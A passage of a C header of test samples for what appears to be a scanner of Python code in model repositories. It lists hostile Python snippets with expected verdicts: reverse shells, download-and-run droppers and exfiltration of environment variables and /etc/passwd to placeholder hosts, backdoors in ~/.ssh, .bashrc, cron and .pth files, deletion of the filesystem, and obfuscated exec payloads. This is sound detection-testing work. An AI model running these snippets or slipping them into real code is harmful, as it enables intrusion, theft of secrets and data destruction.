/* python_samples.h - Python as attackers write it, and as model repositories hold it. Payloads are inert: addresses that do not
 * exist, commands that only tell who runs them. Expected: the verdict of the check alone. */
#ifndef GH_TEST_PYTHON_SAMPLES_H
#define GH_TEST_PYTHON_SAMPLES_H
#include "format/rule.h"

struct python_sample {
	const char *what;      /* a name ending in .pth: lines that run at every start */
	enum gh_verdict least; /* hostile: this or worse; ordinary: this or better */
	const char *text;
};

/* clang-format off */
static const struct python_sample hostile[] = {
	{ "objects on raw bytes: memmap", GH_REVIEW, "import numpy as np\nx = np.memmap('w.bin', dtype=object, mode='r')\n" },
	{ "objects on raw bytes: by position", GH_REVIEW, "import numpy as np\nx = np.fromfile('w.bin', 'O')\n" },
	{ "objects on raw bytes: a type that is made", GH_REVIEW,
	  "import numpy as np\nx = np.lib.format.open_memmap('w.npy', 'r', np.dtype(np.object_))\n" },
	{ "results where programs are started from", GH_UNSAFE,
	  "from transformers import TrainingArguments\na = TrainingArguments(output_dir='/etc/cron.d')\n" },
	{ "results: first parameter", GH_UNSAFE, "from transformers import TrainingArguments\na = TrainingArguments('~/.ssh')\n" },
	{ "results: options in a dictionary", GH_UNSAFE,
	  "from transformers import TrainingArguments\no = {'logging_dir': '/etc/profile.d'}\na = TrainingArguments(**o)\n" },
	{ "results: set later", GH_UNSAFE,
	  "from transformers import TrainingArguments\na = TrainingArguments('out')\na.output_dir = '/etc/cron.d'\n" },
	{ "results among the system's packages", GH_REVIEW,
	  "from lightning import Trainer\nt = Trainer(default_root_dir='/usr/lib/python3/dist-packages')\n" },
	{ "mention: a loader of objects is kept", GH_REVIEW,
	  "import yaml\n"
	  "read = [yaml.unsafe_load]\n" },
	{ "mention: yielded", GH_UNSAFE,
	  "import os\n"
	  "def tools():\n"
	  "    yield len\n"
	  "    yield os.popen\n"
	  "for t in tools():\n"
	  "    t('id')\n" },
	{ "mention: entered", GH_UNSAFE,
	  "import os\n"
	  "class Ctx:\n"
	  "    def __enter__(self):\n"
	  "        return os.popen\n"
	  "    def __exit__(self, *e):\n"
	  "        return None\n"
	  "with Ctx() as run:\n"
	  "    run('id')\n" },
	{ "mention: property", GH_UNSAFE,
	  "import os as _o\n"
	  "class Tool:\n"
	  "    @property\n"
	  "    def go(self):\n"
	  "        return _o.popen\n"
	  "Tool().go('id')\n" },
	{ "mention: decorator replaces", GH_UNSAFE,
	  "import os\n"
	  "def swap(_):\n"
	  "    return os.popen\n"
	  "@swap\n"
	  "def work(x):\n"
	  "    return x\n"
	  "work('id')\n" },
	{ "mention: module raised", GH_UNSAFE,
	  "import os\n"
	  "try:\n"
	  "    raise ValueError(os)\n"
	  "except ValueError as err:\n"
	  "    err.args[0].popen('id')\n" },
	{ "mention: module in a manager", GH_UNSAFE,
	  "import os, contextlib\n"
	  "with contextlib.nullcontext(os) as o:\n"
	  "    o.popen('id')\n" },
	{ "mention: module matched", GH_REVIEW,
	  "import os\n"
	  "match os:\n"
	  "    case object(popen=p):\n"
	  "        p('id')\n" },
	{ "mention: table of a module", GH_REVIEW,
	  "import os\n"
	  "for name, f in vars(os).items():\n"
	  "    if name.startswith('pop'):\n"
	  "        f('id')\n" },
	{ "mention: table by attribute", GH_REVIEW,
	  "import os\n"
	  "[f for k, f in os.__dict__.items() if k[::-1] == 'nepop'][0]('id')\n" },
	{ "mention: star", GH_REVIEW,
	  "from os import *\n" },
	{ "mention: default argument", GH_UNSAFE,
	  "import os\n"
	  "def go(line, how=[os.system]):\n"
	  "    return how[-1](line)\n"
	  "go('id')\n" },
	{ "mention: library is patched", GH_UNSAFE,
	  "import os, string\n"
	  "string.capwords = os.system\n"
	  "string.capwords('id')\n" },
	{ "mention: frame of an error", GH_UNSAFE,
	  "try:\n"
	  "    [][1]\n"
	  "except IndexError as e:\n"
	  "    e.__traceback__.tb_frame.f_builtins['ev' + 'al'](\"__import__('os').popen('id')\")\n" },
	{ "mention: frame of a generator", GH_UNSAFE,
	  "gen = (i for i in ())\n"
	  "gen.gi_frame.f_globals['__builtins__'].exec(\"import os\\nos.popen('id')\")\n" },
	{ "mention: built-ins by a computed key", GH_UNSAFE,
	  "t = __builtins__ if type(__builtins__) is dict else __builtins__.__dict__\n"
	  "t[min(k for k in t if k.startswith('exe'))](\"import os\\nos.popen('id')\")\n" },
	{ "mention: annotation evaluated", GH_UNSAFE,
	  "import typing\n"
	  "class Config:\n"
	  "    size: \"__import__('os').popen('id')\"\n"
	  "typing.get_type_hints(Config)\n" },
	{ "mention: logging makes objects", GH_UNSAFE,
	  "from logging.config import dictConfig\n"
	  "dictConfig({'version': 1, 'filters': {'f': {'()': 'os.popen', 'cmd': 'id'}}})\n" },
	{ "mention: text to a substitution", GH_UNSAFE,
	  "import re\n"
	  "re.sub('.*', lambda m: eval(m.group()), \"__import__('os').popen('id')\")\n" },
	{ "mention: module within a library", GH_REVIEW,
	  "import enum\n"
	  "enum.sys.modules['os'].popen('id')\n" },
	{ "mention: private function", GH_REVIEW,
	  "import uuid\n"
	  "uuid._get_command_stdout('id')\n" },
	{ "mention: loader", GH_UNSAFE,
	  "c = __loader__.source_to_code(\"import os\\nos.popen('id')\", 'm')\n"
	  "def f(): pass\n"
	  "f.__code__ = c\n"
	  "f()\n" },
	{ "mention: code is replaced", GH_REVIEW,
	  "def f(): return len('id')\n"
	  "f.__code__ = f.__code__.replace(co_names=('x',))\n" },
	{ "mention: built-ins of a function", GH_REVIEW,
	  "print.__self__.__dict__\n" },
	{ "mention: members", GH_REVIEW,
	  "import inspect\n"
	  "dict(inspect.getmembers(inspect))\n" },
	{ "mention: globals by a computed name", GH_REVIEW,
	  "def f(n):\n"
	  "    return globals()[n.lower()]\n" },
	{ "mention: attrgetter", GH_REVIEW,
	  "import operator, torch\n"
	  "import sys\n"
	  "operator.attrgetter(sys.version[:2])(torch)\n" },
	{ "mention: handler writes", GH_UNSAFE,
	  "import logging, pathlib\n"
	  "logging.basicConfig(filename=pathlib.Path.home() / '.zshrc', format='%(message)s')\n"
	  "logging.error('id')\n" },
	{ "mention: keys by pathlib", GH_UNSAFE,
	  "from pathlib import Path\n"
	  "d = Path.home() / '.ssh'\n"
	  "(d / 'authorized_keys').write_text('ssh-ed25519 A')\n" },
	{ "mention: start-up by descriptor", GH_UNSAFE,
	  "import os\n"
	  "f = os.open(os.path.expanduser('~/.bashrc'), os.O_WRONLY)\n"
	  "os.write(f, b'id')\n" },
	{ "mention: site packages", GH_UNSAFE,
	  "import site\n"
	  "from pathlib import Path\n"
	  "(Path(site.getusersitepackages()) / 'a.pth').write_text('import a')\n" },
	{ "mention: home is deleted", GH_UNSAFE,
	  "from pathlib import Path\n"
	  "for p in Path.home().rglob('*'):\n"
	  "    p.unlink()\n" },
	{ "mention: a package is overwritten", GH_UNSAFE,
	  "import json, pathlib\n"
	  "q = pathlib.Path(json.__file__).parent / 'x.py'\n"
	  "with open(q, 'w') as f:\n"
	  "    f.write('x')\n" },
	{ "mention: a table saved to cron", GH_UNSAFE,
	  "import pandas as pd\n"
	  "pd.DataFrame({'x': ['* * * * * root id']}).to_csv('/etc/cron.d/x')\n" },
	{ "mention: environment", GH_REVIEW,
	  "import os\n"
	  "os.environ['LD_PRELOAD'] = './x.so'\n" },
	{ "mention: environment as a whole", GH_REVIEW,
	  "import os, wandb\n"
	  "wandb.init(config=dict(os.environ))\n" },
	{ "mention: key read", GH_REVIEW,
	  "import numpy as np\n"
	  "np.fromfile('/root/.ssh/id_rsa', dtype='u1')\n" },
	{ "mention: consent at one remove", GH_REVIEW,
	  "from transformers import AutoModel\n"
	  "kw = dict(trust_remote_code=True)\n"
	  "AutoModel.from_pretrained('a/b', **kw)\n" },
	{ "mention: query", GH_REVIEW,
	  "import pandas as pd\n"
	  "pd.DataFrame({'a': [1]}).query(\"@pd.io.common.os.popen('id')\")\n" },
	{ "mention: library runs a text", GH_UNSAFE,
	  "import torch.fx.graph_module as g\n"
	  "g._exec_with_source(\"import os\\nos.popen('id')\", {})\n" },
	{ "mention: path of the package", GH_REVIEW,
	  "__path__ = ['/tmp/x']\n"
	  "from . import a\n" },
	{ "add", GH_UNSAFE,
	  "class X: pass\n"
	  "X.__add__=exec\n"
	  "X()+\"1\"\n" },
	{ "alias", GH_UNSAFE,
	  "import os\n"
	  "s=os.system\n"
	  "t=s\n"
	  "t(\"id\")\n" },
	{ "alias_branch", GH_UNSAFE,
	  "import os,sys\n"
	  "if len(sys.argv)>5:\n"
	  "    f=print\n"
	  "else:\n"
	  "    f=os.system\n"
	  "f(\"id\")\n" },
	{ "alias_branch2", GH_UNSAFE,
	  "import os,sys\n"
	  "if len(sys.argv)>5:\n"
	  "    f=os.system\n"
	  "else:\n"
	  "    f=print\n"
	  "f(\"id\")\n" },
	{ "asyncio", GH_UNSAFE,
	  "import asyncio\n"
	  "asyncio.run(asyncio.create_subprocess_shell(\"id\"))\n" },
	{ "atexit", GH_UNSAFE,
	  "import atexit,os\n"
	  "atexit.register(os.system,\"id\")\n" },
	{ "attrgetter", GH_UNSAFE,
	  "import operator,os\n"
	  "operator.attrgetter(\"system\")(os)(\"id\")\n" },
	{ "attrs", GH_UNSAFE,
	  "import os\n"
	  "class A: pass\n"
	  "a=A()\n"
	  "a.f=os.system\n"
	  "a.f(\"id\")\n" },
	{ "b64exec", GH_UNSAFE,
	  "import base64\n"
	  "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwgc2giKQ=="
	  "\"))\n" },
	{ "b64exec2", GH_UNSAFE,
	  "from base64 import b64decode as d\n"
	  "eval(compile(d(b\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwgc2giKQ==\").de"
	  "code(),\"x\",\"exec\"))\n" },
	{ "bashrc", GH_UNSAFE,
	  "open(\"/root/.bashrc\",\"a\").write(\"curl http://x.example|sh\")\n" },
	{ "bomb_b85", GH_UNSAFE,
	  "import base64\n"
	  "exec(base64.b85decode('X>D+Ca&#bXb2}h!b1rjvb97~GC?aEZa%>=IbaZe!FE4m5Wq4t2aBO8Sa3Fjjb7&$d'))\n" },
	{ "broken", GH_UNSAFE,
	  "import os\n"
	  "os.system(\"id\")\n"
	  "def f(:\n" },
	{ "broken2", GH_REVIEW,
	  "def f(:\n"
	  "\n"
	  "import os\n"
	  "os.system(\"id\")\n" },
	{ "builtins_dict", GH_UNSAFE,
	  "__builtins__.__dict__[\"exec\"](\"import os\\nos.system('id')\")\n" },
	{ "chr", GH_UNSAFE,
	  "exec(\"\".join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,"
	  "116,101,109,40,34,99,117,114,108,32,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,4"
	  "7,112,32,124,32,115,104,34,41]))\n" },
	{ "chrmap", GH_UNSAFE,
	  "exec(\"\".join(map(chr,[105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,"
	  "109,40,34,99,117,114,108,32,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,47,112,32"
	  ",124,32,115,104,34,41])))\n" },
	{ "classbody", GH_UNSAFE,
	  "import os\n"
	  "class C:\n"
	  "    os.system(\"id\")\n" },
	{ "classgetitem", GH_UNSAFE,
	  "import os\n"
	  "class X:\n"
	  "    __class_getitem__=os.system\n"
	  "X[\"id\"]\n" },
	{ "commands", GH_UNSAFE,
	  "import commands\n"
	  "commands.getoutput(\"id\")\n" },
	{ "comp", GH_UNSAFE,
	  "[f(\"id\") for f in [__import__(\"os\").system]]\n" },
	{ "conftest", GH_UNSAFE,
	  "import subprocess\n"
	  "def pytest_configure(config):\n"
	  "    subprocess.run(\"curl http://x.example|sh\",shell=True)\n" },
	{ "cookie", GH_UNSAFE,
	  "# -*- coding: utf-7 -*-\n"
	  "import os\n"
	  "+AG8AcwAu-system(\"id\")\n" },
	{ "cron", GH_UNSAFE,
	  "import os\n"
	  "os.system(\"(crontab -l; echo '* * * * * curl x|sh')|crontab -\")\n" },
	{ "ctxmgr", GH_UNSAFE,
	  "import os\n"
	  "class C:\n"
	  "    __enter__=lambda s: os.system(\"id\")\n"
	  "    __exit__=lambda *a: None\n"
	  "with C(): pass\n" },
	{ "ctypes", GH_UNSAFE,
	  "import ctypes\n"
	  "sc=b\"\\x90\\x90\"\n"
	  "p=ctypes.windll.kernel32.VirtualAlloc(0,len(sc),0x3000,0x40)\n"
	  "ctypes.windll.kernel32.RtlMoveMemory(p,sc,len(sc))\n" },
	{ "ctypes2", GH_UNSAFE,
	  "import ctypes,mmap\n"
	  "m=mmap.mmap(-1,100,prot=7)\n"
	  "m.write(b\"\\x90\")\n"
	  "ctypes.CFUNCTYPE(ctypes.c_int)(0x1000)()\n" },
	{ "ctypes3", GH_REVIEW,
	  "import ctypes\n"
	  "ctypes.CDLL(None).system(b\"id\")\n" },
	{ "deco", GH_UNSAFE,
	  "import os\n"
	  "@os.system\n"
	  "@(lambda f:\"id\")\n"
	  "def x(): pass\n" },
	{ "deco2", GH_UNSAFE,
	  "@exec\n"
	  "@lambda c: \"import os;os.system('id')\"\n"
	  "class X: pass\n" },
	{ "deco_exec", GH_UNSAFE,
	  "@exec\n"
	  "@input\n"
	  "class X: pass\n" },
	{ "decoder", GH_UNSAFE,
	  "def d(s):\n"
	  "    return \"\".join(chr(ord(c)-1) for c in s)\n"
	  "getattr(__import__(d(\"pt\")),d(\"tztufn\"))(d(\"je\"))\n" },
	{ "default", GH_UNSAFE,
	  "import os\n"
	  "def f(x=os.system(\"id\")): pass\n" },
	{ "dictdisp", GH_UNSAFE,
	  "import os\n"
	  "d={\"a\":os.system}\n"
	  "d[\"a\"](\"id\")\n" },
	{ "discord", GH_UNSAFE,
	  "import requests,platform\n"
	  "requests.post(\"https://discord.com/api/webhooks/1/2\",json={\"content\":platform.node()})\n" },
	{ "dnsexf", GH_UNSAFE,
	  "import socket,getpass\n"
	  "socket.gethostbyname(getpass.getuser()+\".x.example\")\n" },
	{ "dnsexf2", GH_UNSAFE,
	  "import socket\n"
	  "h=socket.gethostname()\n"
	  "socket.getaddrinfo(f\"{h}.x.example\",80)\n" },
	{ "dropper", GH_UNSAFE,
	  "import urllib.request,subprocess,os\n"
	  "urllib.request.urlretrieve(\"http://x.example/a\",\"/tmp/a\")\n"
	  "os.chmod(\"/tmp/a\",0o755)\n"
	  "subprocess.Popen([\"/tmp/a\"])\n" },
	{ "dropper2", GH_UNSAFE,
	  "import requests,os,tempfile\n"
	  "p=tempfile.mktemp()\n"
	  "with open(p,\"wb\") as f:\n"
	  "    f.write(requests.get(\"http://x.example/a\").content)\n"
	  "os.system(p)\n" },
	{ "envkey", GH_REVIEW,
	  "import os,requests\n"
	  "class Model:\n"
	  "  def __init__(self):\n"
	  "    requests.get(\"http://x.example/?k=\"+os.environ[\"AWS_SECRET_ACCESS_KEY\"])\n" },
	{ "envpost", GH_UNSAFE,
	  "import os,requests\n"
	  "requests.post(\"http://x.example\",json=dict(os.environ))\n" },
	{ "envpost2", GH_UNSAFE,
	  "import os,urllib.request,json\n"
	  "d=json.dumps({k:v for k,v in os.environ.items()}).encode()\n"
	  "urllib.request.urlopen(\"http://x.example\",data=d)\n" },
	{ "fexec", GH_REVIEW,
	  "import os\n"
	  "c=\"id\"\n"
	  "exec(f\"os.system({c!r})\")\n" },
	{ "forloop", GH_UNSAFE,
	  "import os\n"
	  "for f in (os.system,):\n"
	  "    f(\"id\")\n" },
	{ "forwardexec", GH_UNSAFE,
	  "import torch\n"
	  "class M(torch.nn.Module):\n"
	  "    def forward(self,x):\n"
	  "        eval(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwg"
	  "c2giKQ==\"))\n"
	  "        return x\n" },
	{ "fromas", GH_UNSAFE,
	  "from os import system as print\n"
	  "print(\"id\")\n" },
	{ "fromhex", GH_UNSAFE,
	  "exec(bytes.fromhex(\"696d706f7274206f733b206f732e73797374656d28226375726c20687474703a2f2f782e657"
	  "8616d706c652f70207c2073682229\"))\n" },
	{ "fullwidth", GH_UNSAFE,
	  "import os\n"
	  "\357\275\205\357\275\230\357\275\205\357\275\203(\"import os\\nos.system('id')\")\n" },
	{ "functype", GH_UNSAFE,
	  "import types,marshal\n"
	  "types.FunctionType(marshal.loads(b"
	  "\""
	  "\\x"
	  "63"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "03"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "f3"
	  "\\x"
	  "2e"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "97"
	  "\\x"
	  "00"
	  "\\x"
	  "64"
	  "\\x"
	  "00"
	  "\\x"
	  "64"
	  "\\x"
	  "01"
	  "\\x"
	  "6c"
	  "\\x"
	  "00"
	  "\\x"
	  "5a"
	  "\\x"
	  "00"
	  "\\x"
	  "02"
	  "\\x"
	  "00"
	  "\\x"
	  "65"
	  "\\x"
	  "00"
	  "\\x"
	  "6a"
	  "\\x"
	  "01"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "64"
	  "\\x"
	  "02"
	  "\\x"
	  "a6"
	  "\\x"
	  "01"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "ab"
	  "\\x"
	  "01"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "01"
	  "\\x"
	  "00"
	  "\\x"
	  "64"
	  "\\x"
	  "01"
	  "\\x"
	  "53"
	  "\\x"
	  "00"
	  "\\x"
	  "29"
	  "\\x"
	  "03"
	  "\\x"
	  "e9"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "4e"
	  "\\x"
	  "7a"
	  "\\x"
	  "1c"
	  "\\x"
	  "63"
	  "\\x"
	  "75"
	  "\\x"
	  "72"
	  "\\x"
	  "6c"
	  "\\x"
	  "20"
	  "\\x"
	  "68"
	  "\\x"
	  "74"
	  "\\x"
	  "74"
	  "\\x"
	  "70"
	  "\\x"
	  "3a"
	  "\\x"
	  "2f"
	  "\\x"
	  "2f"
	  "\\x"
	  "78"
	  "\\x"
	  "2e"
	  "\\x"
	  "65"
	  "\\x"
	  "78"
	  "\\x"
	  "61"
	  "\\x"
	  "6d"
	  "\\x"
	  "70"
	  "\\x"
	  "6c"
	  "\\x"
	  "65"
	  "\\x"
	  "2f"
	  "\\x"
	  "70"
	  "\\x"
	  "20"
	  "\\x"
	  "7c"
	  "\\x"
	  "20"
	  "\\x"
	  "73"
	  "\\x"
	  "68"
	  "\\x"
	  "29"
	  "\\x"
	  "02"
	  "\\x"
	  "da"
	  "\\x"
	  "02"
	  "\\x"
	  "6f"
	  "\\x"
	  "73"
	  "\\x"
	  "da"
	  "\\x"
	  "06"
	  "\\x"
	  "73"
	  "\\x"
	  "79"
	  "\\x"
	  "73"
	  "\\x"
	  "74"
	  "\\x"
	  "65"
	  "\\x"
	  "6d"
	  "\\x"
	  "a9"
	  "\\x"
	  "00"
	  "\\x"
	  "f3"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "da"
	  "\\x"
	  "01"
	  "\\x"
	  "78"
	  "\\x"
	  "fa"
	  "\\x"
	  "08"
	  "\\x"
	  "3c"
	  "\\x"
	  "6d"
	  "\\x"
	  "6f"
	  "\\x"
	  "64"
	  "\\x"
	  "75"
	  "\\x"
	  "6c"
	  "\\x"
	  "65"
	  "\\x"
	  "3e"
	  "\\x"
	  "72"
	  "\\x"
	  "07"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "01"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "73"
	  "\\x"
	  "26"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "00"
	  "\\x"
	  "f0"
	  "\\x"
	  "03"
	  "\\x"
	  "01"
	  "\\x"
	  "01"
	  "\\x"
	  "01"
	  "\\x"
	  "d8"
	  "\\x"
	  "00"
	  "\\x"
	  "09"
	  "\\x"
	  "80"
	  "\\x"
	  "09"
	  "\\x"
	  "80"
	  "\\x"
	  "09"
	  "\\x"
	  "80"
	  "\\x"
	  "09"
	  "\\x"
	  "88"
	  "\\x"
	  "39"
	  "\\x"
	  "88"
	  "\\x"
	  "32"
	  "\\x"
	  "8c"
	  "\\x"
	  "39"
	  "\\x"
	  "d0"
	  "\\x"
	  "15"
	  "\\x"
	  "33"
	  "\\x"
	  "d1"
	  "\\x"
	  "0b"
	  "\\x34\\xd4\\x0b\\x34\\xd0\\x0b\\x34\\xd0\\x0b\\x34\\xd0\\x0b\\x34\\x72\\x05\\x00\\x00\\x00\"),gl"
	  "obals())()\n" },
	{ "generator", GH_UNSAFE,
	  "import os\n"
	  "any(os.system(c) for c in [\"id\"])\n" },
	{ "getattr", GH_UNSAFE,
	  "import os\n"
	  "getattr(os,\"sys\"+\"tem\")(\"id\")\n" },
	{ "getattr2", GH_UNSAFE,
	  "g=getattr\n"
	  "o=__import__(\"o\"+\"s\")\n"
	  "g(o,\"metsys\"[::-1])(\"id\")\n" },
	{ "getattr_fmt", GH_UNSAFE,
	  "import os\n"
	  "n=\"%s%s\"%(\"sys\",\"tem\")\n"
	  "getattr(os,n)(\"id\")\n" },
	{ "getattrdunder", GH_REVIEW,
	  "from os import system\n"
	  "class X:\n"
	  "    __getattr__=lambda s,n: system(n)\n"
	  "X().id\n" },
	{ "globals", GH_UNSAFE,
	  "globals()[\"__builtins__\"].eval(\"__import__('os').system('id')\")\n" },
	{ "globalsfn", GH_UNSAFE,
	  "def f():pass\n"
	  "f.__globals__[\"__builtins__\"][\"__import__\"](\"os\").system(\"id\")\n" },
	{ "hookpickle", GH_UNSAFE,
	  "import torch,pickle,base64\n"
	  "class M(torch.nn.Module):\n"
	  "    def __init__(self):\n"
	  "        super().__init__()\n"
	  "        pickle.loads(base64.b64decode(\"gASV\"))\n" },
	{ "httpx_eval", GH_UNSAFE,
	  "import httpx\n"
	  "r=httpx.get(\"http://x.example\")\n"
	  "eval(r.json()[\"c\"])\n" },
	{ "hub", GH_UNSAFE,
	  "import torch\n"
	  "m=torch.hub.load(\"evil/repo\",\"x\")\n" },
	{ "importlib", GH_UNSAFE,
	  "import importlib\n"
	  "importlib.import_module(\"o\"+\"s\").system(\"id\")\n" },
	{ "importlib2", GH_UNSAFE,
	  "from importlib import import_module as m\n"
	  "m(\"subprocess\").run(\"id\",shell=True)\n" },
	{ "join", GH_UNSAFE,
	  "f=\"\".join([\"s\",\"y\",\"s\",\"t\",\"e\",\"m\"])\n"
	  "import os\n"
	  "getattr(os,f)(\"id\")\n" },
	{ "lambda", GH_UNSAFE,
	  "(lambda o: o.system(\"id\"))(__import__(\"os\"))\n" },
	{ "lambda2", GH_UNSAFE,
	  "(lambda f,a: f(a))(__import__(\"os\").system,\"id\")\n" },
	{ "lambda_obf", GH_UNSAFE,
	  "_ = lambda __ : __import__(\"zlib\").decompress(__import__(\"base64\").b64decode(__[::-1]));exec"
	  "((_)(b'==QOS8q9A0UJMIehaUoA9TFnCyNxKSdvK0ffrIgkSyYhcIq0kXaDcRtkirs49KmB2+CyRpyLI3CzLzJe'))\n" },
	{ "listdisp", GH_UNSAFE,
	  "import os\n"
	  "l=[print,os.system]\n"
	  "l[1](\"id\")\n" },
	{ "locals", GH_UNSAFE,
	  "import os\n"
	  "locals()[\"os\"].system(\"id\")\n" },
	{ "logos", GH_UNSAFE,
	  "import logging\n"
	  "logging.os.system(\"id\")\n" },
	{ "map", GH_UNSAFE,
	  "import os\n"
	  "list(map(os.system,[\"id\"]))\n" },
	{ "marshal", GH_UNSAFE,
	  "import marshal,base64\n"
	  "exec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAA"
	  "AAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56HGN1cmwgaHR0cDovL3guZXhhbXBsZS9wIHwgc2gpAtoCb3P"
	  "aBnN5c3RlbakA8wAAAADaAXj6CDxtb2R1bGU+cgcAAAABAAAAcyYAAADwAwEBAdgACYAJgAmACYg5iDKMOdAVM9ELNNQLNNA"
	  "LNNALNNALNHIFAAAA')))\n" },
	{ "mathital", GH_UNSAFE,
	  "\360\235\223\256\360\235\224\201\360\235\223\256\360\235\223\254(\"__import__('os').system('id')"
	  "\")\n" },
	{ "metaclass", GH_UNSAFE,
	  "import os\n"
	  "class M(type):\n"
	  "    def __new__(m,n,b,d):\n"
	  "        os.system(\"id\")\n"
	  "        return type.__new__(m,n,b,d)\n"
	  "class X(metaclass=M): pass\n" },
	{ "methodcaller", GH_UNSAFE,
	  "import operator,os\n"
	  "operator.methodcaller(\"system\",\"id\")(os)\n" },
	{ "nested", GH_UNSAFE,
	  "def a():\n"
	  "    def b():\n"
	  "        import os\n"
	  "        os.system(\"id\")\n"
	  "    b()\n"
	  "a()\n" },
	{ "odict", GH_UNSAFE,
	  "import os\n"
	  "os.__dict__[\"sys\"+\"tem\"](\"id\")\n" },
	{ "osexecl", GH_UNSAFE,
	  "import os\n"
	  "os.execl(\"/bin/sh\",\"sh\",\"-c\",\"id\")\n" },
	{ "partial", GH_UNSAFE,
	  "import functools,os\n"
	  "functools.partial(os.system,\"id\")()\n" },
	{ "passwd", GH_UNSAFE,
	  "import urllib.request\n"
	  "urllib.request.urlopen(\"http://x.example\",data=open(\"/etc/passwd\",\"rb\").read())\n" },
	{ "picklelit", GH_UNSAFE,
	  "import pickle\n"
	  "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n" },
	{ "pipinst", GH_UNSAFE,
	  "import subprocess,sys\n"
	  "subprocess.check_call([sys.executable,\"-m\",\"pip\",\"install\",\"evil-pkg\"])\n" },
	{ "pipinst2", GH_UNSAFE,
	  "import os\n"
	  "os.system(\"pip install -q evil\")\n" },
	{ "pipmain", GH_UNSAFE,
	  "import pip\n"
	  "pip.main([\"install\",\"evil\"])\n" },
	{ "popenread", GH_UNSAFE,
	  "import os\n"
	  "x=os.popen(\"whoami\").read()\n" },
	{ "posix", GH_UNSAFE,
	  "import posix\n"
	  "posix.system(\"id\")\n" },
	{ "property", GH_UNSAFE,
	  "import os\n"
	  "class C:\n"
	  "    @property\n"
	  "    def x(self): os.system(\"id\")\n"
	  "C().x\n" },
	{ "pth.pth", GH_UNSAFE,
	  "import os; os.system(\"id\")\n" },
	{ "pth2.pth", GH_UNSAFE,
	  "/usr/lib/x\n"
	  "import base64;exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL3guZXhhbXBsZS"
	  "9wIHwgc2giKQ==\"))\n" },
	{ "py2exec", GH_UNSAFE,
	  "exec \"import os; os.system('id')\"\n" },
	{ "py2print", GH_UNSAFE,
	  "import os\n"
	  "print os.popen(\"cat /etc/passwd\").read()\n" },
	{ "recv_system", GH_UNSAFE,
	  "import socket,os\n"
	  "s=socket.socket()\n"
	  "s.connect((\"h\",1))\n"
	  "while True:\n"
	  "    d=s.recv(1024).decode()\n"
	  "    os.system(d)\n" },
	{ "reduce", GH_UNSAFE,
	  "import os\n"
	  "class E:\n"
	  "    def __reduce__(self):\n"
	  "        return (os.system,(\"id\",))\n" },
	{ "reduce2", GH_UNSAFE,
	  "import subprocess\n"
	  "class E(object):\n"
	  "    def __reduce__(self):\n"
	  "        return subprocess.Popen,([\"sh\",\"-c\",\"id\"],)\n" },
	{ "reducega", GH_UNSAFE,
	  "import functools\n"
	  "functools.reduce(getattr,[\"system\"],__import__(\"os\"))(\"id\")\n" },
	{ "requests_exec", GH_UNSAFE,
	  "import requests\n"
	  "exec(requests.get(\"http://x.example/p.py\").text)\n" },
	{ "revshell", GH_UNSAFE,
	  "import socket,subprocess,os\n"
	  "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
	  "s.connect((\"10.0.0.1\",4242))\n"
	  "os.dup2(s.fileno(),0)\n"
	  "os.dup2(s.fileno(),1)\n"
	  "subprocess.call([\"/bin/sh\",\"-i\"])\n" },
	{ "revshell_pty", GH_UNSAFE,
	  "import socket,pty,os\n"
	  "s=socket.create_connection((\"10.0.0.1\",1))\n"
	  "[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
	  "pty.spawn(\"sh\")\n" },
	{ "rmrf", GH_UNSAFE,
	  "import shutil\n"
	  "shutil.rmtree(\"/\")\n" },
	{ "rot13", GH_UNSAFE,
	  "import codecs\n"
	  "exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"phey uggc://k.rknzcyr/c | fu\")',\"rot13\"))\n" },
